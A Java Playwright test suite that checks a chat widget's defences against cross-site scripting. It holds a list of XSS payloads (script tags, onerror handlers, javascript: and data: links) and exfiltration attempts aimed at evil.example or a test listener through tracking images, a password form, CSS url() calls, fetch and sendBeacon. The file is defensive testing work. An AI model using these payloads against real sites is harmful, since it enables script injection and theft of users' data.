package dev.parley.chat.page;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Locator;
import dev.parley.chat.ChatTest;
import dev.parley.chat.Inference;
import dev.parley.chat.Visitor;
import dev.parley.testing.Answer;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.io.IOException;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Everybody who writes something that the page shows tries to run a script there, or to tell
 * somebody.
 */
@ChatTest
class HostileTextBrowserTest extends BrowserTest {

  private static final String EVIL =
      "\"'><img src=x onerror=window.hacked=1><script>window.hacked=2</script>"
          + "<svg onload=window.hacked=3>";

  private static final List<String> HOSTILE =
      List.of(
          "<script>window.hacked = 1</script>",
          "<img src=\"https://evil.example/x.png\" onerror=\"window.hacked = 2\">",
          "![tracking](https://evil.example/pixel.png?said=all)",
          "![x](data:text/html,<script>window.hacked=1</script>)",
          "[link](javascript:window.hacked=3)",
          "[link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)",
          "<a href=\"#\" onclick=\"window.hacked=4\">press</a>",
          "<a href=\"java&#x09;script:window.hacked=4\">press</a>",
          "<iframe src=\"https://evil.example\" srcdoc=\"<script>parent.hacked=1</script>\"></iframe>",
          "<form action=\"https://evil.example\"><input name=\"password\"></form>",
          "<style>* { background: url(https://evil.example/s) }</style>",
          "<link rel=stylesheet href=\"https://evil.example/s.css\">",
          "<svg><script>window.hacked=5</script><image href=\"https://evil.example/i\"/></svg>",
          "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=6></style></table>",
          "<video poster=\"https://evil.example/p\" onerror=\"window.hacked=7\"></video>",
          "<object data=\"https://evil.example\"></object><embed src=\"https://evil.example\">",
          "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example\">",
          "<p style=\"background:url(https://evil.example/b)\" background=\"https://evil.example/c\">p</p>",
          "```html\n<script>window.hacked=8</script>\n```",
          "```\"><img src=x onerror=window.hacked=9>\ncode\n```",
          "| <img src=x onerror=window.hacked=10> |\n|---|\n| <script>window.hacked=11</script> |",
          "<chat-page></chat-page><passage-dialog></passage-dialog>",
          "<details open ontoggle=window.hacked=12><summary>s</summary></details>");

  private static void assertNothingRan(ChatWindow chat) {
    assertThat(chat.page().evaluate("window.hacked")).isNull();
  }

  @Test
  void nothingInAnAnswerRunsOrTells() {
    Visitor visitor = Visitor.arrive();
    ChatWindow chat = open(visitor);
    Locator messages = chat.find("chat-message");
    for (int i = 0; i < HOSTILE.size(); i++) {
      Inference.upstream().script(Answer.text(HOSTILE.get(i), "\n\nThe end."));
      chat.ask(HOSTILE.get(i));
      assertThat(messages).hasCount(2 * (i + 1));
      assertThat(messages.last().getByText("The end.")).isVisible();
      assertThat(chat.button("Send")).isVisible();
      assertHarmless(chat);
    }
    chat.page().reload();
    assertThat(messages).hasCount(2 * HOSTILE.size());
    assertThat(messages.last().getByText("The end.")).isVisible();
    assertHarmless(chat);
  }

  private static void assertHarmless(ChatWindow chat) {
    Locator answer = chat.find("markdown-text");
    for (Locator link : answer.locator("a").all()) {
      assertThat(String.valueOf(link.getAttribute("href")))
          .doesNotContainIgnoringCase("script:")
          .doesNotStartWith("data:");
    }
    assertThat(
            answer.locator(
                "script, iframe, form, input, style, link, svg, math, video, object, embed, base,"
                    + " meta, chat-page, [onclick], [onerror], [ontoggle], [style]"))
        .hasCount(0);
    assertThat(answer.locator("img:not([src^='data:image/'])")).hasCount(0);
    assertNothingRan(chat);
  }

  @Test
  void whatAClientSaysIsOnlyText() {
    JsonObject parameters =
        new JsonObject()
            .put("pageTitle", EVIL)
            .put("helloLabel", EVIL)
            .put("helloSubLabel", EVIL)
            .put("textAreaPlaceholder", EVIL)
            .put(
                "suggestionButtons",
                new JsonArray()
                    .add(new JsonObject().put("label", EVIL.substring(0, 70)).put("prompt", EVIL)));
    ChatWindow chat = open(arrive(parameters));
    assertThat(chat.page()).hasTitle(EVIL);
    assertThat(chat.find(".greeting h2")).hasText(EVIL);
    chat.find(".suggestion").click();
    assertThat(chat.find("chat-message .bubble")).hasText(EVIL);
    assertThat(chat.said("Hello from the upstream.")).isVisible();
    assertNothingRan(chat);
  }

  @Test
  void passagesAndProblemsAreOnlyText() {
    Visitor visitor = Visitor.arrive();
    Inference.upstream().script(Inference.cited(EVIL + " passage", "See [1]."));
    ChatWindow chat = open(visitor);
    chat.ask("Where?");
    chat.find(".cite").click();
    assertThat(chat.find("dialog[open]")).containsText("passage");
    assertThat(chat.find("dialog img, dialog script")).hasCount(0);
    chat.page().keyboard().press("Escape");
    Inference.upstream().script(Inference.refusal(400, EVIL));
    chat.ask("And now?");
    assertThat(chat.alert()).isVisible();
    assertThat(chat.find(".banner img, .banner script")).hasCount(0);
    assertNothingRan(chat);
  }

  @Test
  void argumentsOfToolsAreOnlyText() {
    Visitor visitor = arrive(new JsonObject().put("showToolCalls", true));
    JsonObject run =
        new JsonObject()
            .put("name", EVIL)
            .put("arguments", new JsonObject().put("q", EVIL).encode())
            .put("succeeded", false)
            .put("error", EVIL);
    JsonObject context = new JsonObject().put("runned_functions", new JsonArray().add(run));
    Inference.upstream()
        .script(
            Inference.events(
                Inference.chunk(new JsonObject().put("content", "Done.")).encode(),
                Inference.chunk(new JsonObject()).put("generation_context", context).encode(),
                "[DONE]"));
    ChatWindow chat = open(visitor);
    chat.ask("Go.");
    Locator tool = chat.find("tool-list details");
    tool.locator("summary").click();
    assertThat(tool.locator("pre")).containsText("onerror");
    assertThat(tool.locator("img, script")).hasCount(0);
    assertNothingRan(chat);
  }

  @Test
  void theClientsStyleIsAppliedAndTellsNobody() throws IOException {
    try (Site listener = new Site("")) {
      String evil = listener.origin();
      String style =
          "@import url(%s/import); @font-face { font-family: f; src: url(%s/font) }"
              + " header { border-bottom: 7px solid red; font-family: f }"
              + " textarea { background: url(%s/key) } .bubble { background: url('%s/said') }"
              + " body { background: image-set('%s/set' 1x); cursor: url(%s/cursor), auto }"
              + " :root { --x: url(%s/var) } main { mask-image: var(--x) }"
              + " a::after { content: '</style><script>window.hacked = 1</script>' }";
      ChatWindow chat =
          open(arrive(new JsonObject().put("customStyles", style.replace("%s", evil))));
      assertThat(chat.find("header")).hasCSS("border-bottom-width", "7px");
      chat.ask("Hello?");
      assertThat(chat.said("Hello from the upstream.")).isVisible();
      assertThat(listener.asked()).isEmpty();
      assertNothingRan(chat);
    }
  }

  @Test
  void theClientsScriptRunsInThePageAndReachesNobodyElse() throws IOException {
    try (Site listener = new Site("")) {
      String script =
          """
          window.custom = 1;
          const seen = [];
          document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
          fetch("%s/fetch").catch(() => undefined);
          new Image().src = "%s/image";
          document.head.append(Object.assign(document.createElement("link"), {rel: "stylesheet", href: "%s/css"}));
          navigator.sendBeacon("%s/beacon", "said");
          let text = "</script><script>window.hacked = 1</script><!--";
          window.seen = seen;
          """
              .replace("%s", listener.origin());
      ChatWindow chat = open(arrive(new JsonObject().put("customScripts", script)));
      assertThat(chat.input()).isVisible();
      assertThat(chat.page().evaluate("window.custom")).isEqualTo(1);
      chat.page().waitForFunction("window.seen.length >= 4");
      assertThat(listener.asked()).isEmpty();
      assertNothingRan(chat);
    }
  }

  @Test
  void noFileOfTheServiceBecomesAScript() {
    Visitor visitor = arrive(new JsonObject().put("inputModes", List.of("Document")));
    ChatWindow chat = open(visitor);
    assertThat(chat.input()).isVisible();
    Object ran =
        chat.page()
            .evaluate(
                """
                async (path) => {
                  const script = document.createElement("script");
                  const over = new Promise((done) => { script.onerror = () => done("refused"); script.onload = () => done("ran"); });
                  try {
                    script.src = path;
                  } catch {
                    return "refused";
                  }
                  document.head.append(script);
                  return over;
                }
                """,
                "/chat/widget.js");
    assertThat(ran).isEqualTo("refused");
  }
}
